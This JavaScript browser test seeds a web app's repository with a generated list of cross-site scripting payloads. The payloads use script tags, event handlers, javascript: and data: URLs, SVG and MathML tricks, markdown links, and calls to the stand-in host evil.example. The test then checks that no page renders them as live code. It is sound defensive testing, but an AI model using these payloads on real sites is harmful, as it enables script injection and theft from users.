// Texts that would do something if a page took them for more than text.
import { strict as assert } from "node:assert";
import { ask, base, done, newTab, until, visit } from "./browser.mjs";

const ACTS = ["document.title=1", "alert(1)", "fetch('//evil.example')", "location='//evil.example'", "eval('document.title=2')", "top.x=1", "import('//evil.example/x.js')"];
const SHAPES = [
  (act) => `<script>${act}</script>`,
  (act) => `"><script>${act}</script>`,
  (act) => `<!--><script>${act}</script>-->`,
  (act) => `<![CDATA[<script>${act}</script>]]>`,
  (act) => `<ScRiPt src=data:text/javascript,${act}></sCrIpT>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<IMG SRC="jav&#x09;ascript:${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x>`,
  (act) => `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<details open ontoggle="${act}">x</details>`,
  (act) => `<body onload="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<x contenteditable autofocus onfocus="${act}">x</x>`,
  (act) => `<form action="javascript:${act}"><button>Save</button></form>`,
  (act) => `<a href="javascript:${act}">here</a>`,
  (act) => `[here](javascript:${act})`,
  (act) => `[here](data:text/html,<script>${act}</script>)`,
  (act) => `![here](https://evil.example/x.png "${act}")`,
  (act) => `<style>@import url(//evil.example/${act});</style>`,
  (act) => `<link rel=stylesheet href="//evil.example/${act}">`,
  (act) => `<base href="//evil.example/"><template><script>${act}</script></template>`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `{{constructor.constructor("${act}")()}} \${${act}} &lt;script&gt;${act}&lt;/script&gt; \u202e`,
];
const TEXTS = SHAPES.flatMap((shape) => ACTS.map(shape));

/** What none of these texts may have made. */
const MADE = ":is(iframe,object,embed,base,math,video,audio,meta,link,style,script,input[autofocus],x,form[action],[onerror],[onload],[onfocus],[ontoggle],[onbegin],a[href^=javascript],a[href^=data],img[src*=evil])";

/** `many` of them as titles, texts, facts, names of files and authors, and in a report. */
export async function hostile(context, token, many) {
  const step = Math.max(1, Math.floor(TEXTS.length / many));
  const texts = TEXTS.filter((_, at) => at % step === 0).slice(0, many);
  const { slug } = await ask(token, "POST", "/repositories", { name: `Hostile ${texts[0]}` });
  const each = 10;
  const html = (text) => text.replace(/[&<>"]/g, (one) => `&#${one.charCodeAt(0)};`);
  for (let at = 0; at < texts.length; at += each) {
    const some = texts.slice(at, at + each);
    const sentences = some.map((text, no) => `The tidal station number ${at + no + 1} opened in ${1900 + no} beside ${text} in Nova Scotia.`);
    const page = `<html><head><title>${html(some[0])}</title><meta name="author" content="${html(some[1] ?? some[0])}"></head><body><article><h1>${html(some[0])}</h1>${sentences.map((one) => `<p>${html(one)} The station was built by the province of Nova Scotia for the people of the coast.</p>`).join("")}</article></body></html>`;
    for (const [name, type, body] of [[`${some[0].replaceAll("/", "_")}.html`, "text/html", page], [`${(some[1] ?? some[0]).replaceAll("/", "_")}.md`, "text/markdown", `# ${some.at(-1)}\n\n${sentences.join("\n\n").replaceAll("station", "mill")}\n`]]) {
      const form = new FormData();
      form.append("file", new Blob([body], { type }), name);
      const answer = await fetch(`${base}/api/v1/repositories/${slug}/sources/upload`, { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form });
      assert.ok(answer.ok, await answer.text());
    }
  }
  const report = await ask(token, "POST", `/repositories/${slug}/reports`, { title: texts[0], body_markdown: texts.map((text, no) => `The tidal station number ${no + 1} opened in 1950 beside ${text} in Nova Scotia.`).join("\n\n") });
  const sources = await until("hostile sources", async () => {
    const { data } = await ask(token, "GET", `/repositories/${slug}/sources?limit=200`);
    return data.length >= 2 * Math.ceil(texts.length / each) && data.every((one) => ["processed", "failed"].includes(one.status)) && data;
  });
  await until("the hostile report", async () => (await ask(token, "GET", `/repositories/${slug}/reports/${report.id}`)).status === "annotated");
  const { id, answer_id = id } = await ask(token, "POST", `/repositories/${slug}/ask`, { question: `Which station opened beside ${texts[0]}? ${texts.at(-1)}` });
  await until("the hostile answer", async () => (await ask(token, "GET", `/repositories/${slug}/answers/${answer_id}`)).status !== "running");
  await ask(token, "POST", `/repositories/${slug}/webhooks`, { url: "https://hooks.example.org/%3Cimg%20src=x%3E", description: texts[0].slice(0, 200), events: ["source.failed"] });
  const tab = await newTab(context, "hostile");
  const paths = [`/r/${slug}/sources`, `/r/${slug}/facts`, `/r/${slug}/concepts?small=1`, `/r/${slug}/contradictions`, `/r/${slug}/search?q=station&explain=1`, `/r/${slug}/reports`, `/r/${slug}/reports/${report.id}?sentence=1`, `/r/${slug}/ask`, `/r/${slug}/answers/${answer_id}`, `/r/${slug}/settings?tab=webhooks`, `/r/${slug}/jobs`, ...sources.flatMap((one) => [`/r/${slug}/sources/${one.id}`, `/r/${slug}/sources/${one.id}?view=about`])];
  for (const path of paths) {
    await visit(tab, path, `hostile ${path}`);
    // A long list draws what is on the screen.
    for (let down = 0; down < 6; down += 1) {
      assert.equal(await tab.locator(`main ${MADE}`).count(), 0, `${path}: a text has become more than text`);
      await tab.mouse.wheel(0, 1_500);
      await tab.waitForTimeout(60);
    }
    assert.equal(await tab.evaluate(() => globalThis.x), undefined, `${path}: a script of a text ran`);
  }
  await tab.close();
  done(`${texts.length} hostile texts on ${paths.length} pages are text`);
}
